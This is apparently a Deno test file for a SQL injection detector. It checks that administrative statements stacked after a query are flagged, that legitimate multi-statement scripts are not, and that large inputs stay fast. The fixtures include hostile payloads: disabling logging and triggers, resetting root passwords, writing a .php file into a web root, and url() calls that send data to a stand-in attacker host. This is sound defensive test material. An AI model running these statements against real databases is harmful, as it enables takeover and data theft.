import assert from "node:assert/strict";
import { maskSql } from "./sqli_lex.ts";
import { stackedHits } from "./sqli_stacked.ts";
import { statementTokens } from "./sqli_struct.ts";

const kinds = (sql: string): string[] => {
  const masked = maskSql(sql).text;
  return stackedHits(statementTokens(masked), masked).map((h) => h.kind);
};

Deno.test("stacked: server administration stacked onto a filtered value", () => {
  for (
    const tail of [
      "ALTER TABLE customers DISABLE TRIGGER ALL",
      "ALTER TABLE customers OWNER TO attacker",
      "SET session_replication_role = replica",
      "SET GLOBAL general_log = 'OFF'",
      "ALTER SYSTEM SET log_min_duration_statement = -1",
      "ALTER LOGIN sa ENABLE",
      "SET PASSWORD FOR 'root'@'localhost' = 'x'",
      "RECONFIGURE",
      "CREATE ASSEMBLY x FROM 0x4D5A",
      "EXEC sp_execute_external_script @language = N'Python'",
      "EXEC('SELECT 1')",
      "SELECT * FROM OPENQUERY(linked, 'SELECT 1')",
      "CREATE EXTENSION plpython3u",
      "CREATE OR REPLACE FUNCTION x() RETURNS void AS $$ SELECT 1 $$ LANGUAGE sql",
      "SELECT pg_file_write('/tmp/x', 'y', false)",
      "SELECT pg_reload_conf()",
      "LOAD '/tmp/x.so'",
      "COPY invoices TO '/tmp/inv.csv'",
      "PRAGMA writable_schema = ON",
      "VACUUM INTO '/var/www/html/db.php'",
      "SELECT * FROM url('http://evil.example/x', CSV, 'a String')",
      "INSERT INTO FUNCTION url('http://evil.example/x', CSV, 'a String') SELECT 1",
      "REASSIGN OWNED BY app TO attacker",
      "FLUSH PRIVILEGES",
      "GRANT ALL ON invoices TO public",
    ]
  ) {
    for (
      const head of [
        "SELECT * FROM invoices WHERE id = 9; ",
        "UPDATE invoices SET paid = true WHERE ref = 'x'; ",
      ]
    ) {
      assert.deepEqual(kinds(head + tail), ["stacked_admin"], head + tail);
    }
  }
});

Deno.test("stacked: scripts, transactions and follow-up queries are not stacked injections", () => {
  for (
    const t of [
      "SET statement_timeout = 0; SET client_encoding = 'UTF8'; CREATE EXTENSION IF NOT EXISTS plpgsql",
      "SELECT * FROM invoices WHERE id = 9; UPDATE invoices SET paid = true WHERE id = 9",
      "SELECT * FROM invoices WHERE id = 9; SELECT * FROM payments WHERE invoice_id = 9",
      "BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; COMMIT;",
      "SELECT count(*) FROM jobs WHERE state = 'failed'; SELECT pg_size_pretty(pg_database_size(current_database()))",
      "DELETE FROM schema_migrations WHERE version = '20261201'; CREATE INDEX idx_a ON a (b)",
      "SELECT * FROM t WHERE id = 9; EXEC dbo.usp_Recalc @Id = 9",
      "SELECT * FROM t WHERE id = 9; CALL recompute(9)",
      "SELECT * FROM t WHERE id = 9; SET search_path TO app",
      "SELECT * FROM t WHERE id = 9; COPY t TO STDOUT WITH CSV",
      "SELECT * FROM t WHERE id = 5; COPY t FROM '/data/import.csv' CSV HEADER",
      "SELECT * FROM pg_stat_activity WHERE state = 'idle in transaction'; SELECT pg_terminate_backend(4242)",
      "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; SELECT f()",
      "INSERT INTO t (a) VALUES (1); GRANT SELECT ON t TO reporting",
      "SELECT * FROM t; GRANT SELECT ON t TO reporting",
    ]
  ) assert.deepEqual(kinds(t), [], t);
});

Deno.test("stacked: hostile input stays linear and bounded", () => {
  for (
    const t of [
      "SELECT 1 FROM t WHERE a = 1; ".repeat(5e3),
      "SELECT 1 FROM t WHERE a = 1; SELECT " + "f(".repeat(3e4),
      "SELECT 1 FROM t WHERE a = 1; COPY t " + "x ".repeat(5e4),
      "SELECT 1 FROM t WHERE a = 1; RECONFIGURE; ".repeat(3e3),
    ]
  ) {
    const t0 = performance.now();
    const masked = maskSql(t).text;
    const hits = stackedHits(statementTokens(masked), masked);
    assert.ok(hits.length <= 16);
    assert.ok(performance.now() - t0 < 2000, `${t.slice(0, 40)} slow`);
  }
});
